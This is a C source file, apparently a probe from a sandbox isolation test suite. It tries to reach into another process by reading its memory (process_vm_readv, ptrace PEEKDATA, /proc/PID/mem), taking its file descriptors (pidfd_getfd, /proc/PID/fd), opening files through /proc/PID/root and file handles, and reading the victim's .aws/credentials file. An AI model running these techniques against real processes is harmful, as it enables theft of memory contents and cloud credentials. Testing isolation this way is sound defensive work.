// Reaches into a process outside: reach PID ADDRESS FD PATH (the victim has PATH open as FD)
#include <sys/ptrace.h>

#include "attack.h"

static void Readv(pid_t pid, void* address) {
  char data[128] = {0};
  struct iovec mine = {data, sizeof data - 1}, its = {address, sizeof data - 1};
  ssize_t size = syscall(SYS_process_vm_readv, pid, &mine, 1, &its, 1, 0);
  if (size > 0) {
    Say("process_vm_readv: LEAK %.60s", data);
  } else {
    Result("process_vm_readv", size);
  }
}

static void Trace(pid_t pid, void* address, int seize) {
  const char* what = seize ? "ptrace-seize" : "ptrace-attach";
  long result = seize ? syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0)
                      : syscall(SYS_ptrace, PTRACE_ATTACH, pid, 0, 0);
  Result(what, result);
  if (result != 0) return;
  if (seize) syscall(SYS_ptrace, PTRACE_INTERRUPT, pid, 0, 0);
  int status;
  waitpid(pid, &status, __WALL);
  char data[65] = {0};
  for (int i = 0; i < 8; ++i) {
    long word = ptrace(PTRACE_PEEKDATA, pid, (char*)address + i * 8, 0);
    memcpy(data + i * 8, &word, 8);
  }
  Say("%s: LEAK %s", what, data);
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void Handle(const char* path) {
  struct {
    struct file_handle handle;
    unsigned char bytes[128];
  } file;
  int mount_id;
  file.handle.handle_bytes = sizeof file.bytes;
  long result = name_to_handle_at(AT_FDCWD, path, &file.handle, &mount_id, 0);
  Result("name_to_handle_at", result);
  int at = open("/", O_RDONLY | O_DIRECTORY);
  if (at < 0) at = open(".", O_RDONLY | O_DIRECTORY);
  DumpFd("open_by_handle_at", open_by_handle_at(at, &file.handle, O_RDONLY));
  close(at);
}

int main(int argc, char** argv) {
  if (argc != 5) return 2;
  pid_t pid = atoi(argv[1]);
  void* address = (void*)strtoul(argv[2], NULL, 16);
  int its_fd = atoi(argv[3]);
  Readv(pid, address);
  Trace(pid, address, 0);
  Trace(pid, address, 1);
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  DumpFd("pidfd_getfd", (int)syscall(SYS_pidfd_getfd, pidfd, its_fd, 0));
  Result("kcmp", syscall(SYS_kcmp, getpid(), pid, 0, 0, its_fd));
  char path[4200], data[128];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDONLY);
  if (fd >= 0 && pread(fd, data, sizeof data - 1, (off_t)address) > 0) {
    data[sizeof data - 1] = 0;
    Say("proc-mem: LEAK %.60s", data);
  } else {
    Say("proc-mem: errno %d", errno);
  }
  if (fd >= 0) close(fd);
  snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, its_fd);
  DumpFd("proc-fd", open(path, O_RDONLY));
  snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[4]);
  DumpFd("proc-root", open(path, O_RDONLY));
  snprintf(path, sizeof path, "/proc/%d/cwd/.aws/credentials", pid);
  DumpFd("proc-cwd", open(path, O_RDONLY));
  Handle(argv[4]);
  Done();
  return 0;
}
